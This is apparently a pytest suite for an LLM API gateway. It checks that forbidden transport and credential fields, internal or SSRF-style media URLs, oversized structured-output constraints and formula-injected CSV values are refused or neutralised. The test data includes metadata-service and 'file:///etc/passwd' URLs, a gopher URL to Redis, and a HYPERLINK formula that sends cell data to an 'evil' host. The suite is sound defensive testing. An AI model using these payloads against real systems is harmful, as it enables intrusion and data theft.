"""What a client may send upstream: transport and credential fields are refused with a 400 naming them, on
every upstream kind, streaming or not, and a canary server standing in for an attacker receives nothing."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from support.config import write_config

MSG = [{"role": "user", "content": "hello"}]
TRANSPORT = ["api_base", "base_url", "api_key", "extra_headers", "headers", "timeout", "custom_llm_provider",
             "proxy", "organization", "mock_response"]


def last_request(sim: Any, model: str) -> dict[str, Any]:
    """The body the scripted upstream last received for ``model``."""
    body: dict[str, Any] = httpx.get(sim.url.removesuffix("/v1") + "/sim/last-request", params={"model": model}).json()
    return body


class Canary:
    """An HTTP server on loopback that records every request it gets (and answers like an upstream)."""

    def __init__(self) -> None:
        self.seen: list[dict[str, Any]] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                canary.seen.append({"path": self.path, "headers": dict(self.headers),
                                    "body": self.rfile.read(length) if length else b""})
                body = (b'{"id":"x","object":"chat.completion","model":"m","choices":[{"index":0,"message":'
                        b'{"role":"assistant","content":"pwned"},"finish_reason":"stop"}],'
                        b'"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}')
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _record

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    server = Canary()
    yield server
    server.close()


@pytest.fixture
def provider_gateway(app_factory, sim, tmp_path, monkeypatch):
    """The example config's shape: a `kind: litellm` provider with its key from the environment and no
    base_url, beside the OpenAI-compatible scripted upstream; one model forwards a field of its own."""
    monkeypatch.setenv("TW_PROVIDER_KEY", "sk-provider-secret-0123456789")
    config = write_config(
        tmp_path / "c.yaml", sim.url,
        extra_upstreams=[{"name": "provider", "kind": "litellm", "api_key": "env::TW_PROVIDER_KEY"}],
        extra_models=[{"name": "hosted", "upstream": "provider", "upstream_model": "openai/gpt-4o-mini"},
                      {"name": "sim-hinted", "upstream": "sim", "upstream_model": "sim-echo",
                       "forward_fields": ["sim_hint"]}])
    return app_factory(config=config)


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("model", ["hosted", "sim-large"])
@pytest.mark.parametrize("field", TRANSPORT)
async def test_transport_fields_are_refused_and_reach_no_one(provider_gateway, make_tenant, canary, ledger,
                                                               field, model, stream):
    tenant = make_tenant()
    value: Any = {"authorization": "x"} if "headers" in field else canary.url
    async with provider_gateway as gw:
        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
            "model": model, "messages": MSG, "stream": stream, field: value})
        await gw.state.ledger.flush()
    assert resp.status_code == 400, resp.text
    assert resp.json()["error"]["param"] == field
    assert resp.json()["error"]["code"] == "forbidden_field"
    assert canary.seen == []
    [row] = ledger("request_id = %s", resp.headers["x-request-id"])
    assert row["cost_usd"] == 0


async def test_embeddings_refuse_transport_fields(provider_gateway, make_tenant, canary):
    tenant = make_tenant()
    async with provider_gateway as gw:
        resp = await gw.client.post("/v1/embeddings", headers=tenant.headers,
                                    json={"model": "sim-embed", "input": "x", "api_base": canary.url})
    assert resp.status_code == 400, resp.text
    assert resp.json()["error"]["param"] == "api_base"
    assert canary.seen == []


async def test_an_unknown_field_is_a_400_naming_it(provider_gateway, make_tenant):
    tenant = make_tenant()
    async with provider_gateway as gw:
        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers,
                                    json={"model": "sim-large", "messages": MSG, "frobnicate": 1})
    assert resp.status_code == 400
    assert resp.json()["error"] == {
        "message": "Unsupported field 'frobnicate': it is not an OpenAI request field, a documented decoding "
                   "extra, or a field this gateway's config forwards.",
        "type": "invalid_request_error", "param": "frobnicate", "code": "unsupported_field"}


async def test_decoding_extras_and_configured_fields_are_forwarded(provider_gateway, make_tenant, sim):
    tenant = make_tenant()
    async with provider_gateway as gw:
        extras = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
            "model": "sim-large", "messages": MSG, "top_k": 5, "min_p": 0.1, "chat_template_kwargs": {"x": 1}})
        hinted = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
            "model": "sim-hinted", "messages": MSG, "sim_hint": "short"})
    assert extras.status_code == 200, extras.text
    assert hinted.status_code == 200, hinted.text
    large, echo = last_request(sim, "sim-large"), last_request(sim, "sim-echo")
    assert (large["top_k"], large["min_p"], large["chat_template_kwargs"]) == (5, 0.1, {"x": 1})
    assert echo["sim_hint"] == "short"


async def test_a_field_forwarded_for_one_model_is_dropped_for_another(provider_gateway, make_tenant, sim):
    """`sim_hint` is accepted (a configured model forwards it) but only that model's upstream gets it."""
    tenant = make_tenant()
    async with provider_gateway as gw:
        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
            "model": "sim-small", "messages": MSG, "sim_hint": "short"})
    assert resp.status_code == 200, resp.text
    small = last_request(sim, "sim-small")
    assert "sim_hint" not in small


def _image(url: str) -> list[dict[str, Any]]:
    return [{"role": "user", "content": [{"type": "text", "text": "what is this?"},
                                         {"type": "image_url", "image_url": {"url": url, "detail": "auto"}}]}]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("url", ["{canary}/image.png", "http://169.254.169.254/latest/meta-data/",
                                 "http://2130706433/", "http://[::ffff:127.0.0.1]/", "http://vllm:8000/metrics",
                                 "http://metadata.google.internal/", "file:///etc/passwd", "gopher://127.0.0.1:6379/"])
async def test_a_media_url_a_model_server_would_fetch_inside_its_network_is_refused(app_factory, make_tenant, sim,
                                                                                     canary, ledger, url, stream):
    """An image URL reaches the model server, which fetches it from where it runs: by default only public
    hosts and inline data, so a client cannot make it read its own loopback, a metadata service or a private
    network. Refused before anything is reserved or sent, charged nothing."""
    tenant = make_tenant()
    target = url.format(canary=canary.url)
    async with app_factory() as gw:
        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
            "model": "sim-large", "messages": _image(target), "stream": stream})
        await gw.state.ledger.flush()
    assert resp.status_code == 400, resp.text
    assert resp.json()["error"]["param"] == "messages[0].content[1].image_url.url"
    assert resp.json()["error"]["code"] == "media_url_not_allowed"
    assert canary.seen == []
    [row] = ledger("request_id = %s", resp.headers["x-request-id"])
    assert row["cost_usd"] == 0


async def test_public_and_inline_media_reach_the_upstream_and_the_setting_widens_or_narrows_it(app_factory,
                                                                                               make_tenant, sim):
    tenant = make_tenant()
    public, inline = "https://images.example.com/cat.png", "data:image/png;base64,iVBORw0KGgo="
    async with app_factory() as gw:
        for url in (public, inline):
            resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers,
                                        json={"model": "sim-large", "messages": _image(url)})
            assert resp.status_code == 200, resp.text
            assert last_request(sim, "sim-large")["messages"][0]["content"][1]["image_url"]["url"] == url
    async with app_factory(media_urls="any") as gw:  # an operator whose model server fetches from its network
        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers,
                                    json={"model": "sim-large", "messages": _image("http://10.1.2.3/x.png")})
        assert resp.status_code == 200, resp.text
    async with app_factory(media_urls="inline") as gw:
        refused = await gw.client.post("/v1/chat/completions", headers=tenant.headers,
                                       json={"model": "sim-large", "messages": _image(public)})
        kept = await gw.client.post("/v1/chat/completions", headers=tenant.headers,
                                    json={"model": "sim-large", "messages": _image(inline)})
    assert refused.status_code == 400
    assert "data: URL" in refused.json()["error"]["message"]
    assert kept.status_code == 200, kept.text


@pytest.mark.parametrize(("part", "param"), [
    ({"type": "text", "text": 5}, "messages[0].content[0].text"),
    ({"type": "text"}, "messages[0].content[0].text"),
    ({"type": "hologram", "data": "x"}, "messages[0].content[0].type"),
    ({"type": "image_url", "image_url": "https://images.example.com/cat.png"}, "messages[0].content[0].image_url"),
    ({"type": "input_audio", "input_audio": None}, "messages[0].content[0].input_audio"),
])
async def test_a_malformed_content_part_is_a_400_naming_it_not_an_upstream_error(app_factory, make_tenant, part,
                                                                                 param):
    tenant = make_tenant()
    async with app_factory() as gw:
        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
            "model": "sim-large", "messages": [{"role": "user", "content": [part]}]})
    assert resp.status_code == 400, resp.text
    assert resp.json()["error"]["param"] == param


_STRING = {"type": "string"}
_WRITE = {"type": "function", "function": {"name": "write", "parameters": {
    "type": "object", "properties": {"content": {"type": "string", "maxLength": 100_000}}}}}


@pytest.mark.parametrize(("extra", "param"), [
    ({"guided_regex": "[a-z]{100000}"}, "guided_regex"),
    ({"guided_grammar": "root ::= [a-z]{0,250000}"}, "guided_grammar"),
    ({"grammar": "root ::= " + "\"a\" " * 10_000}, "grammar"),
    ({"guided_json": {"type": "string", "pattern": "x{5000}"}}, "guided_json"),
    ({"response_format": {"type": "json_schema", "json_schema": {"name": "s", "schema": {
        "type": "object", "properties": {"id": {"type": "string", "pattern": "^[0-9]{1,99999999}$"}}}}}},
     "response_format"),
    ({"guided_choice": [f"choice {i}" for i in range(5000)]}, "guided_choice"),
    ({"response_format": {"type": "json_schema", "json_schema": {"name": "s", "schema": {
        "type": "array", "items": {"type": "number"}, "maxItems": 1_000_000_000}}}}, "response_format"),
    ({"tools": [{"type": "function", "function": {"name": "f", "parameters": {
        "type": "object", "properties": {"body": {"type": "string", "maxLength": 100_000}}}}}],
      "tool_choice": "required"}, "tools[0].function.parameters"),
    ({"tools": [{"type": "function", "function": {"name": f"f{i}", "parameters": _STRING}} for i in range(200)]},
     "tools"),
])
async def test_structured_output_past_its_bounds_is_a_400_and_reaches_no_upstream(app_factory, make_tenant, sim,
                                                                                   extra, param):
    """What a shared model server compiles into a grammar before decoding is bounded: its size, a schema's depth,
    a bounded repeat's count (a{100000} is ten characters), the choices and tools; in range, it is forwarded."""
    tenant = make_tenant()
    before = sim.metric('tollway_sim_requests_total{model="sim-large"}')
    async with app_factory() as gw:
        refused = await gw.client.post("/v1/chat/completions", headers=tenant.headers,
                                       json={"model": "sim-large", "messages": MSG, **extra})
        streamed = await gw.client.post("/v1/chat/completions", headers=tenant.headers,
                                        json={"model": "sim-large", "messages": MSG, "stream": True, **extra})
        fine = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
            "model": "sim-large", "messages": MSG, "guided_regex": "[0-9]{3}-[0-9]{4}",
            "response_format": {"type": "json_schema", "json_schema": {"name": "s", "schema": {
                "type": "object", "properties": {"id": {"type": "string", "pattern": "^\\{[0-9]{1,64}\\}$"}}}}},
            "tools": [_WRITE], "tool_choice": "auto"})  # an agent's tool schema, read as text: not compiled
    for resp in (refused, streamed):
        assert resp.status_code == 400, resp.text
        error = resp.json()["error"]
        assert (error["param"], error["code"], error["type"]) == (param, "structured_output_limit",
                                                                  "invalid_request_error")
    assert sim.metric('tollway_sim_requests_total{model="sim-large"}') == before + 1  # only the one in range
    assert fine.status_code == 200, fine.text
    assert last_request(sim, "sim-large")["guided_regex"] == "[0-9]{3}-[0-9]{4}"
    assert last_request(sim, "sim-large")["tools"] == [_WRITE]


@pytest.mark.parametrize(("path", "extra", "param", "code"), [
    ("/v1/chat/completions", {"stop": [f"stop {i}" for i in range(10_000)]}, "stop", "sampling_limit"),
    ("/v1/chat/completions", {"logit_bias": {str(i): 1 for i in range(5_000)}}, "logit_bias", "sampling_limit"),
    ("/v1/chat/completions", {"best_of": 16}, "best_of", "invalid_request"),
    ("/v1/messages", {"stop_sequences": ["x" * 5_000]}, "stop", "sampling_limit"),
])
async def test_a_per_token_list_past_its_bound_is_a_400_and_reaches_no_upstream(app_factory, make_tenant, sim, path,
                                                                                 extra, param, code):
    """Stop strings, biases and the like are checked by the model server at every token, for every tenant's stream
    it serves: bounded (10,000 stop strings went through before). best_of above n generated sequences no budget
    reserved."""
    tenant = make_tenant()
    before = sim.metric('tollway_sim_requests_total{model="sim-large"}')
    body = {"model": "sim-large", "messages": MSG, "max_tokens": 8, **extra}
    async with app_factory() as gw:
        refused = await gw.client.post(path, headers=tenant.headers, json=body)
        streamed = await gw.client.post(path, headers=tenant.headers, json={**body, "stream": True})
        fine = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
            "model": "sim-large", "messages": MSG, "max_tokens": 8, "stop": ["\n\n", "END", "###", "Q:"],
            "best_of": 2, "n": 2, "logit_bias": {"50256": -100}})
    for resp in (refused, streamed):
        assert resp.status_code == 400, resp.text
        error = resp.json()["error"]  # OpenAI's shape, or Anthropic's for /v1/messages (no param there)
        assert error["code"] == code and error.get("param", param) == param, resp.text
    assert fine.status_code == 200, fine.text
    assert sim.metric('tollway_sim_requests_total{model="sim-large"}') == before + 1  # only the one in bounds


async def test_a_responses_request_s_schema_is_bounded_too(app_factory, make_tenant):
    tenant = make_tenant()
    async with app_factory() as gw:
        resp = await gw.client.post("/v1/responses", headers=tenant.headers, json={
            "model": "sim-large", "input": "hello", "text": {"format": {
                "type": "json_schema", "name": "s", "schema": {"type": "string", "pattern": "a{2000}"}}}})
    assert resp.status_code == 400, resp.text
    assert resp.json()["error"]["code"] == "structured_output_limit"


async def test_formula_cells_are_neutralised_in_the_reports_csv(app_factory, make_tenant, make_key):
    app = make_tenant()
    finance = make_key(app.name, "finance")
    async with app_factory() as gw:
        for user in ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)*cmd", "+1", "-2", "\tTAB"):
            resp = await gw.client.post("/v1/chat/completions", headers=app.headers,
                                        json={"model": "sim-small", "messages": MSG, "user": user})
            assert resp.status_code == 200, resp.text
        await gw.state.ledger.flush()
        report = await gw.client.get("/v1/reports/costs", params={"group_by": "user", "format": "csv"},
                                     headers={"authorization": f"Bearer {finance}"})
    assert report.status_code == 200, report.text
    groups = {row[1] for row in csv.reader(io.StringIO(report.text))}
    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" in groups
    assert {"'@SUM(1+1)*cmd", "'+1", "'-2", "'\tTAB"} <= groups
    assert not any(g.startswith(("=", "+", "-", "@", "\t")) for g in groups)
